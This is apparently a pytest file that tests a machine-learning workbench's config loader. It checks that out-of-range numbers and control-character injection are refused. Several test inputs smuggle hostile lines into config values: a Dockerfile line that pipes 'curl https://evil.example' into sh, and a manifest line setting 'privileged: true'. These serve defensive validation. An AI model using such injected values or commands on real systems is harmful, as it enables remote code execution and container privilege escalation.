"""Hostile ``workbench.toml`` values: out-of-range numbers, NaN, and text that would start a new line
in a Dockerfile, a manifest or a TOML file. Each is refused at load, naming file, key, value and range."""

from __future__ import annotations

import pytest

from workbench.config import GATES, SECTIONS, load_config
from workbench.exceptions import ConfigError

CONFIG = '[project]\nname = "tiny"\n\n[data]\npath = "data.csv"\ntarget = "y"\n'


def _load(tmp_path, extra: str):
    path = tmp_path / "workbench.toml"
    path.write_text(CONFIG + extra)
    return path, (lambda: load_config(path))


def _with(section: str, line: str) -> str:
    """``line`` under ``[section]``; the [data] keys go into the table CONFIG already opened."""
    return f"{line}\n" if section == "data" else f"\n[{section}]\n{line}\n"


OUT_OF_RANGE = [
    ("package", "port", "99999999", "an integer >= 1 and <= 65,535"),
    ("package", "port", "0", "an integer >= 1 and <= 65,535"),
    ("package", "replicas", "-3", "an integer >= 1 and <= 1,000"),
    ("monitor", "webhook_timeout", "1e308", "a number > 0 and <= 300"),
    ("monitor", "webhook_timeout", "nan", "a number > 0 and <= 300"),
    ("monitor", "webhook_timeout", "-1", "a number > 0 and <= 300"),
    ("monitor", "n_bootstrap", "-5", "an integer >= 0 and <= 100,000"),
    ("monitor", "drift_share", "nan", "a number >= 0 and <= 1"),
    ("monitor", "drift_share", "1.5", "a number >= 0 and <= 1"),
    ("develop", "max_rows", "0", "an integer >= 1 and <= 10,000,000"),
    ("data", "test_size", "1.0", "a number > 0 and < 1"),
    ("data", "test_size", "-0.25", "a number > 0 and < 1"),
    ("data", "seed", "-1", "an integer >= 0 and <= 4,294,967,295"),
    ("package", "reproduce_tolerance", "-inf", "a number >= 0"),
    ("package", "reproduce_tolerance", "inf", "a number >= 0"),
    ("gates.evaluate", "min_roc_auc", "1.5", "a number >= 0 and <= 1"),
    ("gates.evaluate", "min_group_size", "-30", "an integer >= 1"),
    ("gates.evaluate", "min_r2", "nan", "a number <= 1"),
    ("gates.package", "max_bundle_mb", "0", "a number > 0"),
    ("gates.monitor", "max_drift_share", "-0.1", "a number >= 0 and <= 1"),
]


@pytest.mark.parametrize(("section", "key", "value", "expected"), OUT_OF_RANGE)
def test_numbers_out_of_range_are_refused_naming_key_value_range_and_file(tmp_path, section, key, value, expected):
    path, load = _load(tmp_path, _with(section, f"{key} = {value}"))
    with pytest.raises(ConfigError) as err:
        load()
    message = str(err.value)
    assert f"'{section}.{key}' = " in message and "is out of range" in message
    assert f"expected {expected}." in message and str(path) in message
    assert err.value.key == f"{section}.{key}"


def test_every_numeric_key_declares_a_range():
    numeric = [(name, key, spec) for table in (SECTIONS, GATES) for name, keys in table.items()
               for key, spec in keys.items() if spec.numeric]
    assert len(numeric) >= 19
    unbounded = [f"{name}.{key}" for name, key, spec in numeric if spec.min is None and spec.max is None]
    assert unbounded == [], f"numeric keys without a range: {unbounded}"
    for name, key, spec in numeric:  # every default sits in its own range
        assert spec.in_range(float(spec.default)), (name, key, spec.default)


@pytest.mark.parametrize(("section", "key", "value"), [
    ("package", "image", '"credit:v3\\nRUN curl https://evil.example | sh"'),
    ("package", "image", '"credit v3"'),
    ("package", "cpu_request", '"1\\n  privileged: true"'),
    ("package", "memory_limit", '"lots"'),
])
def test_values_written_into_the_dockerfile_or_manifests_are_one_plain_word(tmp_path, section, key, value):
    _, load = _load(tmp_path, _with(section, f"{key} = {value}"))
    with pytest.raises(ConfigError, match=rf"'{section}\.{key}' = .*(control character|is not valid: expected)"):
        load()


@pytest.mark.parametrize(("section", "line"), [
    ("model", 'name = "credit\\n[evil]"'),
    ("project", 'description = "ok\\u0000"'),
    ("data", 'sensitive = ["sex\\r\\nx"]'),
    ("tracking", 'experiment = "a\\u2028b"'),
])
def test_control_characters_are_refused(tmp_path, section, line):
    text = _with(section, line)
    if section == "project":  # [project] is already open in CONFIG: add the key there
        text = ""
    path = tmp_path / "workbench.toml"
    base = CONFIG.replace('name = "tiny"\n', f'name = "tiny"\n{line}\n') if section == "project" else CONFIG
    path.write_text(base + text)
    with pytest.raises(ConfigError, match=r"holds the control character"):
        load_config(path)


def test_free_text_keys_may_span_lines(tmp_path):
    path = tmp_path / "workbench.toml"
    path.write_text(CONFIG.replace('name = "tiny"\n', 'name = "tiny"\ndescription = """Two\n\tlines"""\n')
                    + '\n[package]\nlimitations = ["one\\ntwo"]\nimage = "registry.example.com/credit:v3"\n')
    config = load_config(path)
    assert config.description == "Two\n\tlines"
    assert config.sections["package"]["image"] == "registry.example.com/credit:v3"
